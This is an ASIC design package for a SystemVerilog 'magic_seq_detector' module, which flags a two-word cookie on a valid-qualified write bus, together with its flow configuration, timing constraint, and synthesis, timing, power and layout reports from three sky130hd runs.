## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = magic_seq_detector
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/magic_seq_detector.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 30
export CORE_AREA = 2 2 55 57
export CTS_CLUSTER_DIAMETER = 200
export DETAILED_ROUTE_END_ITERATION = 16
export DIE_AREA = 0 0 57 59
export MAX_ROUTING_LAYER = met4
export PLACE_DENSITY = 0.82
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```

## constraint.sdc

```tcl
create_clock -name HCLK -period 2.2 [get_ports HCLK]
set_input_delay 0.66 -clock HCLK [delete_from_list [all_inputs] [get_ports HCLK]]
set_output_delay 0.66 -clock HCLK [all_outputs]
set_load 0.01 [all_outputs]
```

## src/rtl/magic_seq_detector.sv

```systemverilog
// ============================================================================
//  Module      : magic_seq_detector
//  Description : Watches a qualified write-data bus and reports when a
//                multi-word cookie arrives as consecutive valid beats.
//  Revision    : 1.0 - initial release
// ============================================================================
`default_nettype none

module magic_seq_detector #(
    parameter int                          DATA_W  = 32,
    parameter int                          SEQ_LEN = 2,
    parameter logic [SEQ_LEN*DATA_W-1:0]   COOKIE  = {32'h12345678, 32'h43424140},
    parameter int                          TIMEOUT = 0,
    parameter int                          CNT_W   = 8
) (
    input  logic                            HCLK,
    input  logic                            HRESETn,
    input  logic [DATA_W-1:0]               HWDATA,
    input  logic                            HWVALID,
    input  logic                            CLR,
    output logic                            DETECTED,
    output logic                            MATCH_PULSE,
    output logic [$clog2(SEQ_LEN+1)-1:0]    PROGRESS,
    output logic [CNT_W-1:0]                HIT_CNT
);

    localparam int PW        = $clog2(SEQ_LEN + 1);
    localparam int TW        = (TIMEOUT > 0) ? $clog2(TIMEOUT + 1) : 1;
    localparam int C_TO_LAST = (TIMEOUT > 0) ? TIMEOUT - 1 : 0;

    logic [PW-1:0]     r_progress;
    logic [TW-1:0]     r_idle;
    logic              r_det;
    logic              r_match;
    logic [CNT_W-1:0]  r_cnt;

    logic [DATA_W-1:0] w_words [SEQ_LEN];
    logic [DATA_W-1:0] w_exp;
    logic              w_last;
    logic              w_to_fire;
    logic              w_complete;
    logic [PW-1:0]     w_prog_nxt;
    logic [TW-1:0]     w_idle_nxt;

    // Word 0 (first expected) lives in the most-significant slice of COOKIE.
    for (genvar gi = 0; gi < SEQ_LEN; gi++) begin : g_words
        assign w_words[gi] = COOKIE[(SEQ_LEN-1-gi)*DATA_W +: DATA_W];
    end

    always_comb begin
        w_exp = w_words[0];
        for (int i = 1; i < SEQ_LEN; i++) begin
            if (r_progress == PW'(i)) begin
                w_exp = w_words[i];
            end
        end
    end

    assign w_last    = (r_progress == PW'(SEQ_LEN - 1));
    assign w_to_fire = (TIMEOUT > 0) && !HWVALID && (r_progress != '0)
                       && (r_idle == TW'(C_TO_LAST));

    always_comb begin
        w_complete = 1'b0;
        w_prog_nxt = r_progress;
        if (HWVALID) begin
            if (HWDATA == w_exp) begin
                if (w_last) begin
                    w_complete = 1'b1;
                    w_prog_nxt = '0;
                end else begin
                    w_prog_nxt = r_progress + PW'(1);
                end
            end else if (HWDATA == w_words[0]) begin
                // Mismatch that is itself a valid first word restarts the hunt.
                if (SEQ_LEN == 1) begin
                    w_complete = 1'b1;
                    w_prog_nxt = '0;
                end else begin
                    w_prog_nxt = PW'(1);
                end
            end else begin
                w_prog_nxt = '0;
            end
        end else if (w_to_fire) begin
            w_prog_nxt = '0;
        end
    end

    always_comb begin
        w_idle_nxt = '0;
        if (TIMEOUT > 0 && !HWVALID && r_progress != '0 && !w_to_fire) begin
            w_idle_nxt = r_idle + TW'(1);
        end
    end

    always_ff @(posedge HCLK or negedge HRESETn) begin
        if (!HRESETn) begin
            r_progress <= '0;
            r_idle     <= '0;
            r_det      <= 1'b0;
            r_match    <= 1'b0;
            r_cnt      <= '0;
        end else begin
            r_progress <= w_prog_nxt;
            r_idle     <= w_idle_nxt;
            r_match    <= w_complete;
            // A completion in the same cycle as CLR takes priority.
            if (w_complete) begin
                r_det <= 1'b1;
                if (CLR) begin
                    r_cnt <= CNT_W'(1);
                end else if (!(&r_cnt)) begin
                    r_cnt <= r_cnt + CNT_W'(1);
                end
            end else if (CLR) begin
                r_det <= 1'b0;
                r_cnt <= '0;
            end
        end
    end

    assign DETECTED    = r_det;
    assign MATCH_PULSE = r_match;
    assign PROGRESS    = r_progress;
    assign HIT_CNT     = r_cnt;

endmodule

`default_nettype wire

```

# --- After elaboration in Yosys (flattened, before gate mapping) ---
# Index checks and enable logic that the tools add are counted.
word_totals:
  elab_cells: 26
  output_inout_bits: 12
  inputBits: 36
  ff_bits: 12
  latchBits: 0
  mem_bits_ro: 0
  ramBits: 0
  memories: 0
op_classes:
  shifts: 0
  eq_ne: 4
  magnitude_cmp: 0
  div: 0
  n_reduce_logical: 3
  add_sub_neg: 2
  multipliers: 0
  muxes: 13
  bitwise_logic: 0
op_table:
  columns: ["operator", "n"]
  rows:
  - ["equality test 32 x 29 -> 1 bit, second input constant", 1]
  - ["equality test 32 bit", 1]
  - ["two-way mux 8 bit", 4]
  - ["two-way mux 31 bit", 1]
  - ["adder 8 x 1 -> 8 bit, second input constant", 1]
  - ["AND reduction 8 bit", 1]
  - ["two-way mux 1 bit", 6]
  - ["two-way mux 2 bit", 2]
  - ["adder 2 x 1 -> 2 bit, second input constant", 1]
  - ["equality test 2 x 1 -> 1 bit, second input constant", 1]
  - ["inequality test 2 bit, second input constant", 1]
  - ["AND reduction 2 bit", 1]
  - ["nonzero test 2 bit", 1]

# --- Depth between registers and ports, before layout ---
# Gate-level depths: netlist (run 1).
depth:
  ltp_word: 7
  depth_mapped: 11
  mapped_depth_nobuf: 11

# --- Worst setup path after synthesis (run 1) ---
# OpenSTA, ideal clock, no wires.
synth_path:
  path_type: "input-to-reg"
  startpoint: "input HWDATA[9]"
  endpoint: "register r_cnt[7] (netlist: HIT_CNT[7])"
  path_slack_ps: 614
  path_stages: 9
  n_path_buf: 0
  arrival_time_ps: 1468
  setup_ps: 118
  t_required_ps: 2082
  path_cell_list: "inv_1 -> nor2_1 -> nand3_1 -> nand2_1 -> nand3_1 -> nor2_4 -> nand4_4 -> nand3_1 -> nand2_1"
synth_between:
  elab_chain_cells: 5
  word_cells_on_any_way: 6
  classes_between: "eq/ne: 1; mux: 3; reduce/logical: 2"
synth_lines:
  columns: ["element", "line_no", "source"]
  rows:
  - ["start: declaration", "18", "input logic [DATA_W-1:0] HWDATA,"]
  - ["equality test 32 bit *", "67", "if (HWDATA == w_exp) begin"]
  - ["two-way mux 1 bit *", "67", null]
  - ["two-way mux 1 bit *", "66", "if (HWVALID) begin"]
  - ["nonzero test 2 bit (no source line)", null, null]
  - ["AND reduction 2 bit (no source line)", null, null]
  - ["end signal: assignment", "114", "r_cnt <= r_cnt + CNT_W'(1);"]
  - ["end: declaration", "35", "logic [CNT_W-1:0] r_cnt;"]
# Every way passes the cells marked *; elsewhere a longest branch is shown, timed or not.
# A chain may end at the register's enable or synchronous reset.

# --- Worst setup path after layout (run 1) ---
layout_path:
  startpoint: "register r_cnt[3] (netlist: HIT_CNT[3])"
  endpoint: "output HIT_CNT[3]"
layout_lines:
  columns: ["element", "line_no", "source"]
  rows:
  - ["end: declaration", "24", "output logic [CNT_W-1:0] HIT_CNT"]
# No word-level cell between the ends.

==> results.yml, run 1 <==
setup_path:
  setup_cp_type: "flop to primary output"
  crit_fanout: 7
  critical-path-top-delay-family: "buffers and inverters"
  worst_path_max_delay_cell: "sky130_fd_sc_hd__clkdlybuf4s50_1"
  max_stage_delay_ps: 590
  timing.critical_path.buf_inv: 1
  end_kind: "primary output"
  crit_path_cell_trace: "clkdlybuf4s50_1"
  worst_ep_required_time_ps: 1540
  worst_setup_path_start_kind: "flop"
  worst-endpoint-arrival_ps: 1350
detailed_routing:
  dr_iter_0_viols: 57
  via_count: 1442
  detail_route.wirelength_um: 3110
  drt-wirelength-per-cell_um: 10.8
  vias_per_cell: 5.02
  ant_nets: 0
  drc: 0
  drt_first_pass_iters: 4
die:
  fp.dieW_um: 57
  fp.dieArea_mm2: 0.00336
  area_inside_the_core_boundary_mm2: 0.00271
  pin_count: 48
  floorplan.initialDensity_pct: 47.2
  rows: 19
  die_h_um: 59
synthesis:
  mappedNetlistNets: 239
  synth_area_per_cell_um2: 6.34
  async_reset_ff_share_pct: 100
  synth_seq_area_share_pct: 23.5
  synth_cell_type_count: 28
  synth_edf_count: 0
  synth_area_mm2: 0.00128
  synth_cells: 202
  yosys_most_used_dff: "sky130_fd_sc_hd__dfrtp_1"
  synth.top_cells.by_area: "sky130_fd_sc_hd__dfrtp_1 23%, sky130_fd_sc_hd__nand2_1 14%, sky130_fd_sc_hd__nor2_1 8.5%"
  ys_ff_latch: 12
  synthMostInstantiatedCell: "sky130_fd_sc_hd__nand2_1"
  synth_top_area_share_pct: 23.5
  synthesis.yosys.warnings: 0
  synth_top_cell_by_area: "sky130_fd_sc_hd__dfrtp_1"
  post_synth_top_cells: "47 x sky130_fd_sc_hd__nand2_1, 29 x sky130_fd_sc_hd__nor2_1, 28 x sky130_fd_sc_hd__inv_1"
clock_network:
  cts_root_buffer: "sky130_fd_sc_hd__clkbuf_4"
  sink_count: 12
  clk-insertion-delay-late_ps: 270
  cts_made_buffers: 3
  clk_pin_slew_ps: 70
  clock_tree_from_tritoncts: "yes"
  postCtsSetupRepairBufs: 0
  cts_htree_levels: 1
  post_cts_hold_buffer_count: 0
  ctsLongestPathBuffers: 2
  post_cts_resized: 0
power:
  clock_power_share_pct: 31.4
  vdd_drop_max_uv: 405
  netSwitchingFraction_pct: 27.4
  power-per-cell-area_mw_per_mm2: 303
  power_frac_comb_pct: 28.7
  power.internal_w: 0.000406
  p_switching_w: 0.000154
  p_total_w: 0.000560
  p_leak_nw: 0.875
  power.sequential.fraction_pct: 39.9
grt:
  grt_antenna_before_repair: 0
  grt_pass1_wl_um: 5490
  first_global_vias: 1297
  global_route.overflow_total: 0
  grt_max_degree: 15
  global_route.usage.total_pct: 21.2
worst_hold_path:
  min_path_type: "flop to flop"
place:
  gp_routability_congestion: 0.869
  post-dp-hpwl_um: 2560
  port_buffers: 47
timing:
  rsz0062_at_grt: "no"
  finalSetupTns_ps: 0
  skew_ps: 0.953
  setup_viol_count_final: 0
  timing_worst_slew_pin_value_ps: 518
  achievable-frequency_mhz: 498
  fin_crit_ps: 2010
  final-hold-violation-count: 0
  relSlewSlack_pct: 65.4
  max_slew_violation_count: 0
  final_min_period_over_clock_period_pct: 91.4
run:
  cap_violations: 0
cells_and_area:
  final_core_utilization_pct: 68.3
  layout.nets: 294
  num_antenna_cells: 0
  layout-drive-gt1-share_pct: 15.6
  synthToLayoutAreaGrowth_pct: 44.6
status:
  run_status: "finished, final reports clean"
-- power groups by stage --
stage,sequential [W],clock (W),combinational [W]
2_1_floorplan,0.000228,0,0.0000664
3_3_place_gp,0.000228,0,0.000159
3_5_place_dp,0.000228,0,0.000161
4_1_cts,0.000223,0.000178,0.000162
5_1_grt,0.000224,0.000188,0.000179
6_report,0.000223,0.000176,0.000161
-- final timing paths --
| kind | depth (start not counted) | start | slack [ps] | end |
|---|---|---|---|---|
| max | 1 | HIT_CNT[3] | 190 | HIT_CNT[3] |
| min reg2reg | 2 | DETECTED | 560 | DETECTED |
| min in group asynchronous | 1 | HRESETn | 720 | HIT_CNT[3] |
| min | 2 | DETECTED | 560 | DETECTED |
| max in group asynchronous | 1 | HRESETn | 1130 | HIT_CNT[4] |
| max reg2reg | 9 | HIT_CNT[0] | 590 | HIT_CNT[6] |
-- layer usage --
metal  wire length (µm)  track usage (%)  share of wire (%)  vias up
met3                219             5.02                7.0        4
met1               1460             28.8                 47      635
met4                 12             3.32               0.39        0
met2               1430             33.2                 46       51
li1                   -                -                  -      752
met5                  0                -                  0        -
-- sequential cells by signal, summed over array words and instances (netlist names) --
| name | cells |
|---|---|
| HIT_CNT | 8 |
| PROGRESS | 2 |
| MATCH_PULSE | 1 |
| DETECTED | 1 |
-- metrics by stage --
step / instance area, µm² / cells / setup WS [ps] / hold slack (ps)
2_1_floorplan: 1280 / 202 / 614 / 364
3_3_place_gp: 1810 / 283 / -0.879 / 511
3_5_place_dp: 1810 / 283 / -38.3 / 532
4_1_cts: 1850 / 287 / 189 / 563
5_1_grt: 1850 / 287 / 72.5 / 608
6_report: 1850 / 287 / 190 / 558
-- final cells by class --
class | instances | area (µm²)
Fill cell | 252 | 860
Timing Repair Buffer | 51 | 500
Sequential cell | 12 | 300
Tap cell | 31 | 38.8
Clock buffer | 4 | 36.3
Inverter | 36 | 135
Multi-Input combinational cell | 153 | 840
-- layout by cell type, fill, tap and decap left out, types with 4 or more instances in the layout --
cell type	netlist	routed
sky130_fd_sc_hd__nand2_1	47	47
sky130_fd_sc_hd__clkdlybuf4s50_1	0	47
sky130_fd_sc_hd__nor2_1	29	29
sky130_fd_sc_hd__inv_1	28	28
sky130_fd_sc_hd__nand3_1	17	17
sky130_fd_sc_hd__dfrtp_1	12	12
sky130_fd_sc_hd__nand4_1	12	12
sky130_fd_sc_hd__nor2_4	7	7
sky130_fd_sc_hd__inv_2	6	6
sky130_fd_sc_hd__nand2_2	6	6
sky130_fd_sc_hd__nor3_1	5	5
sky130_fd_sc_hd__nor2_2	4	4
sky130_fd_sc_hd__xor2_1	4	4
sky130_fd_sc_hd__buf_4	0	4
-- cells by family (layout without fill, tap and decap cells) --
family	count (synthesis)	after routing	share of synthesized area (%)
buf+inv	37	91	10.9
simple gates	139	139	57.8
flops	12	12	23.5
compound gates	8	8	3.42
xor+xnor	5	5	3.42
fa+ha+maj	1	1	0.977
Power figures use the tool's default switching activity.
==> run 2: changes to the inputs <==
SLEW_MARGIN = 10   (was 20)
==> results of run 2 <==
No change in the layout: final DEF, timing and power equal those of run 1.
==> run 3: changes to the inputs <==
ABC_AREA = unset   (was 1)
CORE_AREA = 2 2 50 52   (was 2 2 55 57)
DIE_AREA = 0 0 52 54   (was 0 0 57 59)
HOLD_SLACK_MARGIN = 0.05   (was unset)
PLACE_DENSITY = 0.79   (was 0.82)
==> run 3 against run 2 <==
  * Worst setup slack worse by 150 ps
  * Final cell count is 34% lower
  * Sequential cell count stayed put
  * Cell area is 12% lower
  * First-iteration DRC count is 70% lower
  * Sequential share of layout area is 2.1 points higher
  * Wire length is 10% lower
  * Via count is 31% lower
  * Power is 19% lower
  * Largest cell class is now non-clock buffers
  * Highest routed layer unchanged
==> results.yml, run 3 <==
detailed_routing:
  dr_iter_0_viols: 17
  ant_nets: 0
  drc: 0
  detail_route.wirelength_um: 2800
  via_count: 999
  drt-wirelength-per-cell_um: 14.9
  vias_per_cell: 5.31
  drt_first_pass_iters: 4
setup_path:
  r2r_setup_slack_ps: 260
  timing.critical_path.buf_inv: 2
  worst_r2r_endpoint: "HIT_CNT[2]"
  worst_path_max_delay_cell: "sky130_fd_sc_hd__clkdlybuf4s50_1"
  worst_r2r_startpoint: "PROGRESS[1]"
  end_kind: "flop"
  r2r_cells: 6
  max_stage_delay_ps: 430
  worst_ep_required_time_ps: 2350
  crit_path_cell_trace: "clkdlybuf4s50_1 > or3_4 > nor4_4 > buf_6 > nand3_4 > mux2_4"
  critical-path-top-delay-family: "simple AND/OR/NAND/NOR gates"
  crit_fanout: 6
  worst_setup_path_start_kind: "primary input"
  setup_cp_type: "primary input to flop"
  worst-endpoint-arrival_ps: 2310
power:
  netSwitchingFraction_pct: 22.5
  clock_power_share_pct: 28.2
  p_switching_w: 0.000102
  power-per-cell-area_mw_per_mm2: 277
  vdd_drop_max_uv: 429
  power.sequential.fraction_pct: 48.8
  p_leak_nw: 0.805
  power.internal_w: 0.000350
  power_frac_comb_pct: 23.1
die:
  rows: 18
  pin_count: 48
  die_h_um: 54
  fp.dieW_um: 52
  fp.dieArea_mm2: 0.00281
  floorplan.initialDensity_pct: 38.0
  area_inside_the_core_boundary_mm2: 0.00232
clock_network:
  cts_htree_levels: 1
  sink_count: 12
  clk_pin_slew_ps: 70
  cts_root_buffer: "sky130_fd_sc_hd__clkbuf_4"
  ctsLongestPathBuffers: 2
  clock_tree_from_tritoncts: "yes"
  clk-insertion-delay-late_ps: 260
  cts_made_buffers: 3
synthesis:
  synth_top_cell_by_area: "sky130_fd_sc_hd__dfrtp_1"
  synth_seq_area_share_pct: 34.0
  synth_edf_count: 0
  synthesis.yosys.warnings: 0
  synth_top_area_share_pct: 34.0
  yosys_most_used_dff: "sky130_fd_sc_hd__dfrtp_1"
  synthMostInstantiatedCell: "sky130_fd_sc_hd__dfrtp_1"
  mappedNetlistNets: 128
  async_reset_ff_share_pct: 100
  synth_area_um2: 882
  synth_area_per_cell_um2: 9.69
  synth.top_cells.by_area: "sky130_fd_sc_hd__dfrtp_1 34%, sky130_fd_sc_hd__nor4b_2 6.8%, sky130_fd_sc_hd__nand3_1 4.0%"
  synth_cell_type_count: 36
  ys_ff_latch: 12
  synth_cells: 91
  post_synth_top_cells: "12 x sky130_fd_sc_hd__dfrtp_1, 7 x sky130_fd_sc_hd__nand2_1, 7 x sky130_fd_sc_hd__nand3_1, 7 x sky130_fd_sc_hd__nor2_1, 6 x sky130_fd_sc_hd__a21oi_1"
timing:
  max_slew_violation_count: 0
  achievable-frequency_mhz: 463
  worst_case_hold_slack_ps: 493
  setup_viol_count_final: 0
  final_min_period_over_clock_period_pct: 98.2
  timing_worst_slew_pin_value_ps: 544
  final-hold-violation-count: 0
  relSlewSlack_pct: 63.6
  fin_crit_ps: 2160
  skew_ps: 2.13
grt:
  grt.met3_usage_pct: 5.28
  grt_max_degree: 13
  global_route.overflow_total: 0
  global_route.usage.total_pct: 21.7
  grt_antenna_before_repair: 0
  first_global_vias: 1005
  global_route.usage.met2_pct: 40.3
  global_route.peak_usage_layer: "met2"
  globalRouteMet1Util_pct: 23.3
  grt_pass1_wl_um: 4420
place:
  place.detailed.instances: 176
  post-dp-hpwl_um: 2010
  gp_routability_congestion: 0.765
  port_buffers: 47
cells_and_area:
  num_antenna_cells: 0
  largest_register_ffs: 8
  final_cell_mix: "24 x sky130_fd_sc_hd__clkdlybuf4s50_1, 17 x sky130_fd_sc_hd__buf_4, 15 x sky130_fd_sc_hd__dlymetal6s2s_1"
  layout-drive-gt1-share_pct: 27.8
  final_core_utilization_pct: 70.4
  synthToLayoutAreaGrowth_pct: 85.2
  layout.nets: 197
  final-instance-count-excl-fill: 188
  mostFrequentLayoutCell: "sky130_fd_sc_hd__clkdlybuf4s50_1"
  fillers: 165
worst_hold_path:
  worst_hold_startpoint: "DETECTED"
  min_path_type: "flop to flop"
  hold_depth: 1
  hold_end: "DETECTED"
status:
  run_status: "finished, final reports clean"
run:
  cap_violations: 0
==> run 3: cell types whose count changed after synthesis, sizes merged, moves of 4 or more <==
cell | previous run | this run
inv | 34 | 5
nand3 | 21 | 7
nor2 | 40 | 7
nand4 | 13 | 4
o21ai | 5 | 1
nand2 | 55 | 7
nor4b | 0 | 5
xor2 | 4 | 0
==> run 3: cell type report <==
| cell class | instances | area (µm²) | area share [%] |
|---|---|---|---|
| flip-flops and latches | 12 | 300 | 18.4 |
| well taps | 30 | 37.5 | 2.30 |
| inverters | 5 | 18.8 | 1.15 |
| clock buffers | 3 | 22.5 | 1.38 |
| multi-input cells | 72 | 611 | 37.4 |
| repair buffers | 66 | 644 | 39.4 |
==> run 3: what timing repair did <==
| action | in CTS | in global routing |
|---|---|---|
| pin swaps | 9 | 10 |
| hold buffers | 0 | 0 |
| hold endpoints to repair | 0 | 0 |
| buffers inserted | 7 | 1 |
| gates resized for setup | 17 | 20 |
| endpoints found under the setup margin | 7 | 9 |
| cloned | 1 | 0 |
==> run 3: per-stage QoR <==
step	total power [W]	TNS (ps)	setup slack [ps]	area [µm²]
floorplan	0.000243	0	148	882
global placement	0.000324	-2900	-397	1450
detailed placement	0.000326	-3300	-427	1450
CTS	0.000455	0	1.34	1560
global route	0.000478	-31.1	-16.8	1630
finish	0.000452	0	38.6	1630
==> run 3: worst max-delay path by stage <==
| stage | start | cells after the start | to |
|---|---|---|---|
| after floorplan | HWDATA[23] | 6 | HIT_CNT[7] |
| after global placement | HWDATA[15] | 7 | HIT_CNT[0] |
| after detailed placement | HWDATA[2] | 7 | HIT_CNT[0] |
| after CTS | HWDATA[18] | 9 | HIT_CNT[6] |
| after global routing | HWDATA[25] | 8 | HIT_CNT[0] |
| final | HWDATA[31] | 6 | HIT_CNT[2] |
==> run 3: kinds of logic after synthesis <==
logic type,Yosys count,share of synthesized area [%]
AOI/OAI and AO/OA,15,12.9
buffers and inverters,7,4.26
muxes,3,3.83
adders and majority gates,1,1.42
DFF,12,34.0
and+or+nand+nor,53,43.5
==> run 3: per-layer routing <==
layer  vias up  share of wire [%]
met5         -                  0
met4         0                1.3
met3         6                3.4
met2        30                 57
met1       477                 38
li1        486                  -
==> run 3: power by group through the flow <==
stage / clock, W / sequential, W / combinational, W
after floorplan: 0 / 0.000225 / 0.0000184
after global placement: 0 / 0.000225 / 0.0000990
after detailed placement: 0 / 0.000225 / 0.000101
after CTS: 0.000132 / 0.000220 / 0.000102
after global routing: 0.000146 / 0.000220 / 0.000111
final: 0.000127 / 0.000220 / 0.000104
